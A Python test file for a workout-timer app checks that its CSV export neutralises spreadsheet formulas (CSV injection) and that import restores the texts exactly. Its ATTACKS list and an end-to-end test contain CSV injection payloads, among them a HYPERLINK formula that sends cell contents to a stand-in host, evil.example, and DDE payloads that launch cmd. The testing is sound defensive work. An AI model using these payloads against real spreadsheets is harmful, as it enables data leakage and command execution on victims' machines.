"""A CSV export never hands a spreadsheet a formula, and its import gives back the texts
exactly.

Protocol, exercise, load and note texts starting with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return are written with a leading ``'`` (OWASP's advice against CSV injection);
the import takes it off again.
"""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st
from reliability_helpers import FAST, cli, workout

from glute_timer.core.history_export import csv_text
from glute_timer.core.history_import import parse_csv
from glute_timer.core.history_store import HistoryStore
from glute_timer.core.paths import AppPaths
from glute_timer.core.text import FORMULA_STARTS, neutralise_formula, restore_formula

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''+twice",
]
formula_texts = st.builds(
    lambda start, rest: start + rest,
    st.sampled_from([*sorted(FORMULA_STARTS), "'", "''", "'="]),
    st.text(st.characters(exclude_categories=("Cs",)), max_size=20),
)
texts = st.one_of(formula_texts, st.sampled_from(ATTACKS), st.text(max_size=10))


def _cells(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    return [cell for row in rows[1:] for cell in row]


@settings(max_examples=150, deadline=None)
@given(
    name=texts,
    exercise_name=texts,
    exercise=formula_texts,
    load=formula_texts.filter(str.strip),  # a load is never blank
    note=texts,
    protocol_id=formula_texts,
)
def test_no_cell_starts_a_formula_and_the_round_trip_is_exact(
    name: str, exercise_name: str, exercise: str, load: str, note: str, protocol_id: str
) -> None:
    base = workout()
    sets = tuple(
        s._replace(exercise=exercise, exercise_name=exercise_name, load=load) for s in base.sets
    )
    item = replace(base, protocol_name=name, note=note, protocol_id=protocol_id, sets=sets)
    exported = csv_text([item])
    for cell in _cells(exported):
        assert cell[:1] not in FORMULA_STARTS, cell
    assert parse_csv(exported) == [replace(item, protocol_toml="")]


@given(st.text())
def test_neutralising_is_undone_exactly(text: str) -> None:
    assert restore_formula(neutralise_formula(text)) == text
    assert neutralise_formula(text)[:1] not in FORMULA_STARTS


def test_a_shared_protocol_named_as_a_formula(tmp_path: Path) -> None:
    """The whole way: a protocol file named as a formula is run, exported and imported."""
    base = tmp_path / "base"
    name = '=HYPERLINK("http://evil.example","Pre-run")'
    protocol = tmp_path / "shared.toml"
    protocol.write_text(
        FAST.replace('name = "Fast"', f"name = '{name}'").replace(
            'exercise = "glute-bridge"', 'exercise = "@SUM(1+1)"\nload = "-light band"'
        ),
        encoding="utf-8",
    )
    assert cli(base, "run", str(protocol), "--no-gui", "--mute").returncode == 0
    exported = cli(base, "history", "--csv")
    assert exported.returncode == 0
    row = next(csv.DictReader(io.StringIO(exported.stdout, newline="")))
    assert row["Workout Name"] == "'" + name
    assert row["Exercise Name"] == "'@SUM(1+1)" and row["Exercise ID"] == "'@SUM(1+1)"
    assert row["Load"] == "'-light band"
    file = tmp_path / "shared.csv"
    file.write_text(exported.stdout, encoding="utf-8", newline="")
    other = tmp_path / "other"
    assert cli(other, "history", "--import", str(file)).returncode == 0
    (imported,) = HistoryStore(AppPaths.from_basedir(other).history_db).workouts()
    assert imported.protocol_name == name
    assert imported.sets[0].exercise_name == "@SUM(1+1)" and imported.sets[0].load == "-light band"
